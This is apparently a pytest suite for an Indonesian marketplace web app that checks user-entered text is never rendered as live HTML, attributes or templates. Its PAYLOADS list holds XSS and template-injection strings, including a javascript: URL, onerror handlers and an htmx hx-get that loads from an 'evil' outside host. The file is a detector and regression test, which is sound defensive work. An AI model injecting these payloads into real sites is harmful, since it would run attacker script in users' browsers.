"""What people type is shown as text on every page: no payload becomes an element, an attribute or a template."""

from __future__ import annotations

import pytest
from flask.testing import FlaskClient
from selectolax.lexbor import LexborHTMLParser
from sqlalchemy import select
from sqlalchemy.orm import Session

from marketplace.trade import paying
from marketplace.trade.orders import OrderGroup
from tests import cast
from tests.shopping import InProcess, fill, to_review

pytestmark = pytest.mark.one_database
PAYLOADS = (
    "<script>alert('x-canary')</script>",
    "<x-canary>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><x-canary>",
    "</textarea><x-canary>",
    "</script><x-canary>",
    "--><x-canary>",
    '" onfocus="alert(1)" autofocus x="',
    "' onmouseover='alert(1)",
    '" hx-get="https://jahat.id/" hx-trigger="load" x="',
    '" hx-on::load="alert(1)" x="',
    "javascript:alert(1)//",
    "{{ 7 * 191 }}{% print(7 * 191) %}${7*191}",
    "&lt;x-canary&gt;<a href=javascript:alert(1)>",
    "\u2028<x-canary/\u202e><iframe srcdoc='<x-canary>'>",
)
LINKS = ("href", "src", "action", "formaction", "hx-get", "hx-post", "srcdoc")
ALLOWED = ("/", "#", "?", "http://127.0.0.1", "https://wa.me/", "mailto:", "tel:", "data:image/", "whatsapp:")


def faults(html: str, elements: int) -> list[str]:
    """What a browser would make of the payload."""
    tree = LexborHTMLParser(html)
    found = [
        node.tag
        for node in tree.css(
            "x-canary, iframe, object, embed, script:not([src], [type='application/ld+json']), [srcdoc], [style]"
        )
    ]
    nodes = tree.css("*")
    for node in nodes:
        for name, value in node.attributes.items():
            if name.startswith(("on", "hx-on")):
                found.append(f"{node.tag} {name}")
            if name in LINKS and value and not value.startswith(ALLOWED):
                found.append(f"{node.tag} {name}={value}")
    if len(nodes) != elements:
        found.append(f"{len(nodes)} elements instead of {elements}")
    if "1337" in tree.body.text():
        found.append("a template was run")
    return found


@pytest.fixture
def order(client: FlaskClient, session: Session) -> OrderGroup:
    """An order whose buyer and maker both have a page open, and a proof that waits."""
    cast.finance(session)
    maker = cast.maker(session, "Amplang Uji", "Amplang Uji", price=18_000, packs=20, phone="+6281200000901")
    buyer = InProcess(client)
    fill(buyer, {maker.variant.id: 1})
    hidden = to_review(buyer, method="transfer", phone="081234567890", street="Jl. Uji 1")
    buyer.post("/checkout/periksa", hidden or {})
    session.expire_all()
    group = session.scalars(select(OrderGroup)).one()
    paying.confirm(session, group, by=cast.FINANCE)
    fill(buyer, {maker.variant.id: 1})
    return group


def write(session: Session, group: OrderGroup, text: str) -> None:
    """Everything a buyer or a maker can type becomes this text."""
    (order,) = group.orders
    group.name = group.street = group.landmark = group.courier_note = order.note = text
    product, producer = session.scalars(select(cast.Product)).one(), order.producer
    product.name = product.ingredients = text
    producer.name = producer.owner_name = producer.makes = text
    for line in order.lines:
        line.name = line.label = text
    for variant in product.variants:
        variant.label = text
    session.flush()


def test_no_payload_comes_alive_on_any_page(client: FlaskClient, session: Session, order: OrderGroup) -> None:
    maker = client.application.test_client()
    maker.post("/masuk", data={"who": "081200000901", "password": cast.PASSWORD})
    views = [(client, path) for path in ("/", "/keranjang", "/produk/amplang-uji", f"/pesanan/{order.token}")]
    views += [(client, "/kategori/kerupuk-keripik")]
    views += [(maker, path) for path in ("/jualan", f"/jualan/pesanan/{order.orders[0].number}", "/akun")]
    write(session, order, "Kata biasa")
    for who in (client, maker):
        who.get("/bantuan")  # what was flashed is said here
    plain = {}
    for who, path in views:
        answer = who.get(path)
        assert answer.status_code == 200, path
        plain[path] = len(LexborHTMLParser(answer.text).css("*"))
        assert faults(answer.text, plain[path]) == [], path
    for payload in PAYLOADS:
        write(session, order, payload)
        for who, path in views:
            assert faults(who.get(path).text, plain[path]) == [], (path, payload)


@pytest.mark.parametrize(
    ("path", "field"),
    [("/cari?q=", ""), ("/masuk", "who"), ("/daftar", "name"), ("/daftar", "who"), ("/lupa-kata-sandi", "who")],
)
def test_what_was_typed_comes_back_as_text(client: FlaskClient, path: str, field: str) -> None:
    def answer(text: str) -> str:
        shown = client.post(path, data={field: text}) if field else client.get("/cari", query_string={"q": text})
        assert shown.status_code in {200, 303, 422}
        return shown.text

    plain = len(LexborHTMLParser(answer("biasa!")).css("*"))
    for payload in PAYLOADS:
        assert faults(answer(payload), plain) == [], payload


def test_a_payload_that_came_alive_would_be_found() -> None:
    for text in ('<p onclick="x">', "<x-canary>", '<a href="javascript:x">', "<script>x</script>", '<p hx-on:x="y">'):
        assert faults(f"<body>{text}", 4) != [], text
